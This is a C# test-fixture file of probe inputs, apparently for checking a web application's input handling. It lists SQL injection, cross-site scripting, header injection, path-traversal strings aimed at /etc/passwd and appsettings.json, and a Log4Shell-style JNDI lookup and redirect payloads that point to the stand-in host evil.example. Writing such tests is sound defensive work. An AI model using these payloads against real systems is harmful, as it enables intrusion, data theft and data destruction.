namespace Cat.Testing.Probing;

/// <summary>What is put where something else is expected.</summary>
internal static class ProbePayloads
{
    public const string Elsewhere = "evil.example";

    /// <summary>Where an identifier belongs.</summary>
    public static IReadOnlyList<string> Identifiers { get; } =
    [
        "1", "0", "-1", "null", "00000000-0000-0000-0000-000000000000", "%00", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5c..%5cappsettings.json", "%27%20OR%201%3D1--", "%F0%9F%90%88", "{0}",
        "%0d%0aX-Injected:%20yes", new string('9', 400),
    ];

    /// <summary>Where a text belongs.</summary>
    public static IReadOnlyList<string> Texts { get; } =
    [
        "<script>alert(7361)</script>", "\"><img src=x onerror=alert(7361)>", "' OR '1'='1' --", "'); DROP TABLE accounts; --", "=HYPERLINK(\"http://evil.example\")", "@SUM(1+1)", "{{7361*7361}}", "${jndi:ldap://evil.example/a}",
        "../../../../etc/passwd", "line\r\nX-Injected: yes", "nul\0in it", "\ud83d\ude00\u202e\uffff", "-1", "99999999999999999999", "NaN", "1e400", "2026-13-45", "", new string('x', 70_000),
    ];

    /// <summary>Where an address of this site belongs.</summary>
    public static IReadOnlyList<string> Addresses { get; } =
    [
        "https://evil.example/", "//evil.example", "/\\evil.example", "\\\\evil.example", "/\t/evil.example", "/\n/evil.example", "/%09/evil.example", "http:evil.example", "javascript:alert(7361)", "https:/evil.example",
        "/.evil.example", "@evil.example", "///evil.example", "/%2f%2fevil.example",
    ];

    /// <summary>Files that no address leads to.</summary>
    public static IReadOnlyList<string> Paths { get; } =
    [
        "/../appsettings.json", "/css/../../appsettings.json", "/..%2f..%2fappsettings.json", "/css/%2e%2e/%2e%2e/appsettings.json", "/css/..%5c..%5cappsettings.json", "/appsettings.json", "/Cat.Web.dll", "/.git/config",
        "/js//etc/passwd", "/%2fetc/passwd", "/lib/....//....//etc/passwd", "/_framework/../appsettings.json", "/_content/../../appsettings.json", "//evil.example/%2f..",
    ];
}
